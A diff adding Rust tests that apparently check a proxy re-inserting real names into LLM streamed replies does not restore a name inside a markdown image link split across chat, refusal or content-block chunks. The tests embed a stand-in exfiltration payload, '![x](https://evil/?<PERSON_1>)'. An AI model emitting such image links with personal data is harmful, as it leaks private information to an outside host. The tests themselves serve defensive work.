@@ -296,3 +296,68 @@ fn a_link_goes_on_from_a_summary() {
         }
     }
 }
+
+/// Some clients keep each text apart, others show what comes as it comes: both must find no link.
+#[test]
+fn a_link_goes_on_where_texts_take_turns() {
+    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
+    let delta = |delta: String| format!(r#"{{"choices":[{{"index":0,"delta":{delta}}}]}}"#);
+    let refusal = |text: &str| delta(format!(r#"{{"refusal":"{text}"}}"#));
+    let parts = |text: &str| delta(format!(r#"{{"content":[{{"type":"text","text":"{text}"}}]}}"#));
+    let whole = |text: &str| {
+        format!(r#"{{"choices":[{{"index":0,"message":{{"role":"assistant","content":"{text}"}}}}]}}"#)
+    };
+    let content = |text: &str| content(text, "null");
+    let block = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
+        )
+    };
+    let chat = Dialect::OpenAiChat;
+    for (dialect, said) in [
+        (chat, [content("a"), refusal(open), content(rest)]),
+        (chat, [content(""), refusal(open), content(rest)]),
+        (chat, [refusal("a"), content(open), refusal(rest)]),
+        (chat, [content("a"), parts(open), content(rest)]),
+        (chat, [parts("a"), content(open), parts(rest)]),
+        (Dialect::Anthropic, [block(0, "a"), block(1, open), block(0, rest)]),
+    ] {
+        let said = sse(&said);
+        assert_eq!(streamed(dialect, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
+        // What it said itself counts as before.
+        let said = sse(&match dialect {
+            Dialect::Anthropic => [block(0, open), block(1, ") a"), block(0, rest)],
+            _ => [content(open), refusal(") a"), content(rest)],
+        });
+        assert_eq!(streamed(dialect, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
+    }
+    // What is said again stands where it stood, or at the end.
+    for said in [
+        [refusal(open), content(") a"), whole("<PERSON_1>")],
+        [content("a"), refusal(open), whole("<PERSON_1>")],
+    ] {
+        assert_eq!(streamed(chat, &sse(&said)), sse(&said));
+    }
+}
+
+/// What the model was told is not what it says.
+#[test]
+fn instructions_end_no_link() {
+    let message = |kind: &str, text: &str| {
+        format!(r#"{{"type":"message","role":"user","content":[{{"type":"{kind}","text":"{text}"}}]}}"#)
+    };
+    let told = |text: &str| message("input_text", text);
+    let said = |text: &str| message("output_text", text);
+    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
+    let reply = format!(
+        r#"{{"instructions":[{},{}],"output":[{},{}],"prompt":{{"variables":{{"a":{{"type":"input_text","text":")\n\n"}}}}}}}}"#,
+        told("a"),
+        told(")\\n\\n"),
+        said(open),
+        said(rest)
+    );
+    assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply.replace(") <PERSON_1>", ") Zoë Quill"));
+    let event = format!(r#"{{"type":"response.completed","response":{reply}}}"#);
+    let said = sse(&[event]);
+    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
+}
